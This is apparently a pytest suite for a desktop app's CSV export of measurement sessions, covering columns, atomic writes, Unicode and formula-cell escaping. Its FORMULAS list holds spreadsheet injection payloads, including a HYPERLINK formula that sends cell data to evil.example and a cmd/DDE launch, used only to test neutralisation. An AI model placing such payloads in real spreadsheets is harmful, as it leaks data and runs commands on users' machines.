"""CSV export: the SPEC 9 columns, values exactly as entered, and all-or-nothing writing."""

from __future__ import annotations

import csv
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from psoas_desktop.domain.model import (
    Client,
    Direction,
    Measurement,
    Method,
    Session,
    SessionStatus,
    Side,
    Timepoint,
)
from psoas_desktop.export.csv_export import COLUMNS, HEADER, write_measurements_csv

SPEC_COLUMNS = [
    "client_name",
    "session_id",
    "session_started_at",
    "session_status",
    "method",
    "unit",
    "timepoint",
    "side",
    "reading",
    "value",
    "first_direction",
    "second_direction",
]
STARTED = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
CLIENT = Client('Berg, Anna "Annie" Åström', id=3)


def _session(**changes: object) -> Session:
    values: dict[str, object] = dict(
        client_id=3,
        started_at=STARTED,
        method=Method.GAP_CM,
        id=12,
        status=SessionStatus.COMPLETED,
        first_direction=Direction.RIGHT,
        measurements=(
            Measurement(Timepoint.AFTER_FIRST, Side.LEFT, (1.0,)),
            Measurement(Timepoint.BASELINE, Side.RIGHT, (1.5,), knee_cannot_straighten=True),
            Measurement(Timepoint.BASELINE, Side.LEFT, (2.5, 3.0), lower_back_arches=True),
        ),
    )
    values.update(changes)
    return Session(**values)  # type: ignore[arg-type]


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.DictReader(file))


def test_header_starts_with_exactly_the_spec_columns(tmp_path: Path) -> None:
    """The first twelve columns are SPEC 9's, in order; extra columns only come after them."""
    out = tmp_path / "export.csv"
    write_measurements_csv([], out)
    with out.open(newline="", encoding="utf-8-sig") as file:
        header = next(csv.reader(file))
    assert header[:12] == SPEC_COLUMNS == list(COLUMNS)
    assert header == list(HEADER)


def test_one_row_per_reading_with_values_exactly_as_entered(tmp_path: Path) -> None:
    """Each reading is a row: name (comma, quotes, accents), ids, times and values unchanged."""
    out = tmp_path / "export.csv"
    assert write_measurements_csv([(CLIENT, _session())], out) == 4
    rows = _read(out)
    assert [(r["timepoint"], r["side"], r["reading"], r["value"]) for r in rows] == [
        ("baseline", "left", "1", "2.5"),
        ("baseline", "left", "2", "3.0"),
        ("baseline", "right", "1", "1.5"),
        ("after_first", "left", "1", "1.0"),
    ]
    first = rows[0]
    assert first["client_name"] == 'Berg, Anna "Annie" Åström'
    assert first["session_id"] == "12"
    assert datetime.fromisoformat(first["session_started_at"]) == STARTED
    assert (first["session_status"], first["method"], first["unit"]) == (
        "completed",
        "gap_cm",
        "cm",
    )
    assert (first["first_direction"], first["second_direction"]) == ("right", "left")
    assert (first["readings_mean"], first["lower_back_arches"]) == ("2.75", "true")
    assert rows[2]["knee_cannot_straighten"] == "true"


def test_sessions_without_direction_or_unit_values_export_plainly(tmp_path: Path) -> None:
    """No direction chosen yet gives empty direction cells; each method writes its own unit."""
    out = tmp_path / "export.csv"
    session = _session(
        method=Method.THIGH_ANGLE,
        first_direction=None,
        status=SessionStatus.IN_PROGRESS,
        measurements=(Measurement(Timepoint.BASELINE, Side.RIGHT, (12.0,)),),
    )
    write_measurements_csv([(CLIENT, session), (CLIENT, _session(measurements=()))], out)
    [row] = _read(out)
    assert (row["first_direction"], row["second_direction"]) == ("", "")
    assert (row["method"], row["unit"], row["value"]) == ("thigh_angle", "°", "12.0")
    assert row["session_status"] == "in_progress"


def test_a_failed_export_leaves_the_old_file_and_no_partial_file(tmp_path: Path) -> None:
    """If reading the records fails halfway, the earlier export stays and no temp file is left."""
    out = tmp_path / "export.csv"
    out.write_text("earlier export\n", encoding="utf-8")

    def failing() -> Iterator[tuple[Client, Session]]:
        yield CLIENT, _session()
        raise OSError("the disk went away")

    with pytest.raises(OSError, match="disk went away"):
        write_measurements_csv(failing(), out)
    assert out.read_text(encoding="utf-8") == "earlier export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]


def test_a_successful_export_replaces_the_file_whole(tmp_path: Path) -> None:
    """A finished export replaces an older file completely and leaves nothing else behind."""
    out = tmp_path / "export.csv"
    out.write_text("x" * 10_000, encoding="utf-8")
    write_measurements_csv([(CLIENT, _session())], out)
    assert len(_read(out)) == 4
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]


def test_export_imports_neither_qt_nor_the_database() -> None:
    """The exporter works on domain objects alone: importing it loads no Qt and no SQLAlchemy."""
    probe = (
        "import sys, psoas_desktop.export.csv_export; "
        "bad = [m for m in sys.modules if m.split('.')[0] in ('PySide6', 'pyqtgraph', "
        "'sqlalchemy') or m.startswith('psoas_desktop.persistence')]; print(bad)"
    )
    result = subprocess.run(
        [sys.executable, "-c", probe],
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).parents[2],
    )
    assert result.stdout.strip() == "[]"


def test_export_of_a_stored_database_matches_what_was_saved(tmp_path: Path) -> None:
    """Sessions saved in an SQLite file come out of the export feed as the same rows."""
    from psoas_desktop.persistence.db import database_url, make_engine
    from psoas_desktop.persistence.migrate import upgrade_to_head
    from psoas_desktop.persistence.repository import Repository

    engine = make_engine(database_url(str(tmp_path / "psoas.db")))
    upgrade_to_head(engine)
    repo = Repository(engine)
    client = repo.add_client(Client(CLIENT.name))
    saved = repo.save_session(_session(client_id=client.id, id=None))
    out, expected = tmp_path / "from-db.csv", tmp_path / "direct.csv"
    assert write_measurements_csv(repo.all_sessions_with_clients(), out) == 4
    write_measurements_csv([(client, saved)], expected)
    assert _read(out) == _read(expected)
    engine.dispose()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rReturned",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_formula_cells_are_neutralised_and_read_back_with_a_quote(tmp_path: Path, name: str):
    """A name that starts with = + - @, tab or CR comes back from Python's csv module (with the
    BOM) as the same text behind a single quote, so a spreadsheet shows it rather than runs it."""
    out = tmp_path / "export.csv"
    write_measurements_csv([(Client(name, id=3), _session())], out)
    rows = _read(out)
    assert {row["client_name"] for row in rows} == {f"'{name}"}


def test_negative_readings_stay_numbers(tmp_path: Path) -> None:
    """A reading the app wrote itself (−2 degrees, table-edge) is a number, never quoted."""
    out = tmp_path / "export.csv"
    session = _session(method=Method.TABLE_EDGE_ANGLE, measurements=(
        Measurement(Timepoint.BASELINE, Side.LEFT, (-2.0,)),))
    write_measurements_csv([(CLIENT, session)], out)
    assert [row["value"] for row in _read(out)] == ["-2.0"]


@pytest.mark.parametrize("name", ["Zoë Ørsted-Müßig", "Анна Берг", "李小龍", "Ana 🌿💆‍♀️ Lima"])
def test_unicode_names_round_trip_with_the_byte_order_mark(tmp_path: Path, name: str) -> None:
    """The file starts with the UTF-8 BOM (spreadsheets then read it as UTF-8) and umlauts,
    Cyrillic, CJK and emoji come back exactly through csv with encoding='utf-8-sig'."""
    out = tmp_path / "export.csv"
    write_measurements_csv([(Client(name, id=3), _session())], out)
    assert out.read_bytes().startswith(b"\xef\xbb\xbfclient_name,")
    with out.open(newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    assert {row["client_name"] for row in rows} == {name}
    assert list(rows[0])[: len(SPEC_COLUMNS)] == SPEC_COLUMNS
